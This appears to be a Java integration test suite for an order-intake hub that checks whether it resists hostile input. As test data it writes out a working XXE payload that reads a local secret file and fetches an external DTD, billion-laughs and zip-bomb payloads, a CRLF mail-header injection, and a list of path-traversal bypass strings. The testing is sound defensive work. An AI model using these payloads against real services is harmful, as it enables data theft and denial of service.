package org.wuzetka.proof;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.wuzetka.connector.simulators.Simulators;

/** What a hostile sender tries at the way in, against the packaged hub. */
class IntakeSecurityIT {
    private static final LocalDate TODAY = LocalDate.now(ZoneId.of("Europe/Warsaw"));
    private static final Duration PATIENCE = Duration.ofSeconds(45);
    private static final ObjectMapper JSON = new ObjectMapper();

    private static HubProcess hub;
    private static Partners partners;
    private static final HttpClient CLIENT = HttpClient.newHttpClient();

    @BeforeAll
    static void start() throws Exception {
        hub = new HubProcess("intake-security", Map.of());
        partners = new Partners(hub, Duration.ofSeconds(1));
        hub.start();
        Wholesaler.load(partners.as("admin"), 10);
    }

    @AfterAll
    static void stop() {
        partners.close();
        hub.close();
    }

    private static HttpRequest.Builder request(String path) {
        return HttpRequest.newBuilder(URI.create(hub.url() + path)).timeout(Duration.ofSeconds(30));
    }

    private static HttpRequest.Builder as(String account, String path) {
        String pair = account + ":" + account;
        return request(path)
                .header(
                        "Authorization",
                        "Basic " + Base64.getEncoder().encodeToString(pair.getBytes(StandardCharsets.UTF_8)));
    }

    private static HttpResponse<String> send(HttpRequest.Builder request) throws IOException, InterruptedException {
        return CLIENT.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static HttpResponse<String> intake(String contentType, byte[] body)
            throws IOException, InterruptedException {
        return send(as("sales", "/api/intake/partner")
                .header("Content-Type", contentType)
                .POST(HttpRequest.BodyPublishers.ofByteArray(body)));
    }

    private static long messages() {
        return hub.database().count("SELECT count(*) FROM intake_message");
    }

    private static long orders() {
        return hub.database().count("SELECT count(*) FROM customer_order");
    }

    private static void assertProblem(HttpResponse<String> answer, int status) throws IOException {
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(status);
        assertThat(answer.headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");
        JsonNode problem = JSON.readTree(answer.body());
        assertThat(problem.path("status").asInt()).isEqualTo(status);
        assertThat(problem.path("title").asText()).isNotBlank();
        assertThat(answer.body()).doesNotContain("Exception", "org.wuzetka", "java.");
    }

    /** A message that cannot be an order is kept, with a reason, and has become nothing. */
    private static void assertKeptWithoutOrder(HttpResponse<String> answer, long ordersBefore) throws IOException {
        assertThat(answer.statusCode()).as(answer.body()).isIn(200, 202);
        long id = JSON.readTree(answer.body()).path("id").asLong();
        await().atMost(PATIENCE).untilAsserted(() -> assertThat(
                        hub.database().rows("SELECT state FROM intake_message WHERE id = ?", id))
                .containsAnyOf("REJECTED", "NEEDS_REVIEW"));
        assertThat(hub.database().rows("SELECT reasons FROM intake_message WHERE id = ?", id))
                .noneMatch(reasons -> reasons.equals("[]"));
        assertThat(orders()).isEqualTo(ordersBefore);
    }

    @Test
    void externalEntityIsNeverFetched() throws Exception {
        AtomicInteger calls = new AtomicInteger();
        HttpServer listener = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 10);
        listener.createContext("/", exchange -> {
            calls.incrementAndGet();
            exchange.sendResponseHeaders(404, -1);
            exchange.close();
        });
        listener.start();
        try {
            Path secret = Files.writeString(hub.home().resolve("secret.txt"), "TOP-SECRET-5551");
            long before = orders();
            String xml = "<?xml version=\"1.0\"?><!DOCTYPE Order [<!ENTITY % remote SYSTEM \"http://127.0.0.1:"
                    + listener.getAddress().getPort() + "/evil.dtd\"> %remote; <!ENTITY file SYSTEM \"" + secret.toUri()
                    + "\">]><Order><ID>&file;</ID></Order>";
            assertKeptWithoutOrder(intake("application/xml", xml.getBytes(StandardCharsets.UTF_8)), before);
            assertThat(calls).hasValue(0);
            assertThat(hub.database()
                            .rows("SELECT reasons FROM intake_message UNION ALL SELECT content FROM incoming_order"))
                    .noneMatch(text -> text.contains("TOP-SECRET-5551"));
        } finally {
            listener.stop(0);
        }
    }

    @Test
    void billionLaughsAreNotExpanded() throws Exception {
        StringBuilder xml = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol0 \"lol\">");
        for (int i = 1; i < 30; i++) {
            xml.append("<!ENTITY lol" + i + " \"" + ("&lol" + (i - 1) + ";").repeat(10) + "\">");
        }
        xml.append("]><Order><ID>&lol29;</ID></Order>");
        long before = orders();

        assertKeptWithoutOrder(intake("application/xml", xml.toString().getBytes(StandardCharsets.UTF_8)), before);

        assertThat(send(request("/q/health/ready")).statusCode()).isEqualTo(200);
    }

    @ParameterizedTest
    @ValueSource(strings = {"REST", "MAIL"})
    void zipBombInAWorkbookIsRefused(String way) throws Exception {
        byte[] bomb = zipBomb(way);
        long before = orders();
        if (way.equals("REST")) {
            assertKeptWithoutOrder(intake(OrderForms.XLSX, bomb), before);
        } else {
            partners.mail("bomb-1", "zamowienie.xlsx", OrderForms.XLSX, bomb);
            await().atMost(PATIENCE).untilAsserted(() -> assertThat(
                            hub.database().rows("SELECT state FROM intake_message WHERE channel = 'mail-orders'"))
                    .containsAnyOf("REJECTED", "NEEDS_REVIEW"));
            assertThat(orders()).isEqualTo(before);
        }
        assertThat(hub.isAlive()).isTrue();
        assertThat(send(request("/q/health/ready")).statusCode()).isEqualTo(200);
    }

    /** A workbook whose sheet is half a gigabyte of blanks. */
    private static byte[] zipBomb(String mark) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write(("<?xml version=\"1.0\"?><!-- " + mark
                            + " --><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                            + "<Default Extension=\"xml\" ContentType=\"application/xml\"/></Types>")
                    .getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
            zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
            zip.write("<worksheet><sheetData>".getBytes(StandardCharsets.UTF_8));
            byte[] blanks = " ".repeat(1 << 20).getBytes(StandardCharsets.US_ASCII);
            for (int i = 0; i < 512; i++) zip.write(blanks);
            zip.write("</sheetData></worksheet>".getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
        }
        return bytes.toByteArray();
    }

    @Test
    void lineEndInAnOrderNumberMakesNoMailHeader() throws Exception {
        Map<String, Object> order = OrderForms.json(
                new SentOrder(
                        "INJ-1\r\nBcc: victim@evil.example",
                        Wholesaler.BY_API,
                        TODAY,
                        Map.of(Wholesaler.product(1), 1)),
                "ORIGINAL");

        HttpResponse<String> answer = send(as("sales", "/api/orders")
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofByteArray(OrderForms.bytes(order))));

        if (answer.statusCode() == 400) return;
        await().atMost(PATIENCE)
                .pollInterval(Duration.ofMillis(500))
                .during(Duration.ofSeconds(2))
                .until(() -> hub.database().openWork().isEmpty());
        assertThat(partners.simulators().mail().ledger().rows())
                .noneMatch(row -> String.valueOf(row.get("to")).contains("evil.example"));
        for (var mail : partners.simulators().mail().mailsOf(Wholesaler.emailOf(Wholesaler.BY_API))) {
            assertThat(mail.getHeader("Bcc")).isNull();
        }
    }

    @Test
    void bodyOverTheLimitIsRefusedAndNotStored() throws Exception {
        long before = messages();
        HttpRequest.Builder tooMuch = as("sales", "/api/intake/partner")
                .header("Content-Type", "application/octet-stream")
                .POST(HttpRequest.BodyPublishers.ofByteArray(new byte[27 * 1024 * 1024]));
        try {
            assertThat(send(tooMuch).statusCode()).isEqualTo(413);
        } catch (IOException connectionClosedInTheMiddle) {
            // The hub answers 413 and closes before all is sent; whether the client still reads the answer is a race.
            assertThat(connectionClosedInTheMiddle).hasMessageNotContaining("timed out");
        }
        assertThat(messages()).isEqualTo(before);
    }

    @Test
    void webhookWithAForgedSignatureIsRefusedAndNotStored() {
        long before = messages();
        SentOrder order = new SentOrder("799001", Wholesaler.SHOP, TODAY, Map.of(Wholesaler.product(1), 1));
        URI target = URI.create(hub.url() + "/webhooks/shop");

        int status = partners.simulators().shop().deliverForged(target, "order.created", OrderForms.woo(order));

        assertThat(status).isEqualTo(401);
        assertThat(messages()).isEqualTo(before);
    }

    @Test
    void webhookWhoseBytesWereChangedIsRefused() throws Exception {
        byte[] body = OrderForms.bytes(
                OrderForms.woo(new SentOrder("799002", Wholesaler.SHOP, TODAY, Map.of(Wholesaler.product(1), 1))));
        String signature = org.wuzetka.connector.simulators.ShopSimulator.signature(body, Simulators.WEBHOOK_SECRET);
        String changed = new String(body, StandardCharsets.UTF_8).replace("\"quantity\":1", "\"quantity\":9");
        long before = messages();

        HttpResponse<String> answer = send(request("/webhooks/shop")
                .header("Content-Type", "application/json")
                .header("X-WC-Webhook-Topic", "order.created")
                .header("X-WC-Webhook-Signature", signature)
                .POST(HttpRequest.BodyPublishers.ofString(changed)));

        assertProblem(answer, 401);
        assertThat(messages()).isEqualTo(before);
    }

    @ParameterizedTest
    @ValueSource(strings = {"/api/orders", "/api/intake/partner", "/api/dry-run/auto", "/api/channels", "/q/metrics"})
    void withoutSignInThereIsNothing(String path) throws Exception {
        long before = messages();
        HttpResponse<String> answer = path.equals("/q/metrics")
                ? send(request(path).GET())
                : send(request(path)
                        .header("Content-Type", "application/json")
                        .POST(HttpRequest.BodyPublishers.ofString("{}")));
        assertProblem(answer, 401);
        assertThat(messages()).isEqualTo(before);
    }

    @Test
    void wrongRoleMayNotChangePrices() throws Exception {
        assertProblem(
                send(as("warehouse", "/api/prices")
                        .header("Content-Type", "application/json")
                        .PUT(HttpRequest.BodyPublishers.ofString(
                                "[{\"priceList\": \"HURT-PLN\", \"currency\": \"EUR\"}]"))),
                403);
        assertThat(hub.database().rows("SELECT currency FROM price_list WHERE code = 'HURT-PLN'"))
                .containsExactly("PLN");
    }

    @Test
    void wrongRoleMayNotSendOrders() throws Exception {
        long before = messages();
        assertProblem(
                send(as("accounts", "/api/orders")
                        .header("Content-Type", "application/json")
                        .POST(HttpRequest.BodyPublishers.ofByteArray(OrderForms.bytes(OrderForms.json(
                                new SentOrder("ROLE-1", Wholesaler.BY_API, TODAY, Map.of(Wholesaler.product(1), 1)),
                                "ORIGINAL"))))),
                403);
        assertThat(messages()).isEqualTo(before);
    }

    /** Ways to write a path so that a guard and a router read it differently; sent raw, no client cleans them up. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "/api/orders;x=1",
                "/api;x/orders",
                "/;/api/orders",
                "//api/orders",
                "/api//orders",
                "/%61pi/orders",
                "/api%2forders",
                "/api/%6frders",
                "/api/./orders",
                "/q/health/../metrics",
                "/q/health/..;/metrics",
                "/q/health/%2e%2e/metrics",
                "/q/health/..%2fmetrics",
                "/webhooks/../api/orders",
                "/webhooks/..%2fapi/orders",
                "/webhooks/%2e%2e/api/orders",
                "/login/../api/orders",
                "/assets/../api/orders",
                "/assets/..%2f..%2fapplication.properties",
                "/webjars/..%5c..%5capplication.properties",
                "/api/orders%00",
                "/API/orders"
            })
    void pathTricksOpenNothing(String path) throws Exception {
        String answer = raw(path);
        assertThat(answer).matches("(?s)HTTP/1\\.1 (30[1237]|40[0134]|405|406).*");
        assertThat(answer).doesNotContain("\"items\"", "jvm_memory", "quarkus.application");
    }

    private static String raw(String path) throws IOException {
        URI address = URI.create(hub.url());
        try (Socket socket = new Socket(address.getHost(), address.getPort())) {
            socket.setSoTimeout(15_000);
            socket.getOutputStream()
                    .write(("GET " + path + " HTTP/1.1\r\nHost: " + address.getAuthority()
                                    + "\r\nAccept: application/json\r\nConnection: close\r\n\r\n")
                            .getBytes(StandardCharsets.ISO_8859_1));
            InputStream answer = socket.getInputStream();
            return new String(answer.readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    @Test
    void fileNameWithAPathStaysInItsFolder() throws Exception {
        SentOrder order = new SentOrder("PATH-1", Wholesaler.BY_MAIL, TODAY, Map.of(Wholesaler.product(1), 1));

        partners.mail("path-1", "../../../../escaped.csv", "text/csv", OrderForms.csv(order));

        await().atMost(PATIENCE).untilAsserted(() -> assertThat(hub.database()
                        .count("SELECT count(*) FROM intake_message WHERE channel = 'mail-orders'"
                                + " AND state <> 'RECEIVED'"))
                .isPositive());
        assertThat(hub.database().rows("SELECT file_name FROM intake_message WHERE file_name IS NOT NULL"))
                .noneMatch(name -> name.contains("/") || name.contains(".."));
        try (var files = Files.walk(hub.home().getParent())) {
            assertThat(files.map(file -> file.getFileName().toString())).doesNotContain("escaped.csv");
        }
    }

    @Test
    void answersCarryNoStackTraceForBrokenJson() throws Exception {
        List<String> broken = List.of("{", "[[[[", "\"x\"", "{\"lines\": 7}", "null", "");
        for (String body : broken) {
            HttpResponse<String> answer = send(as("sales", "/api/orders")
                    .header("Content-Type", "application/json")
                    .POST(HttpRequest.BodyPublishers.ofString(body)));
            assertThat(answer.statusCode()).as(body).isLessThan(500);
            assertThat(answer.body()).doesNotContain("Exception", "at org.", "at java.");
        }
    }
}
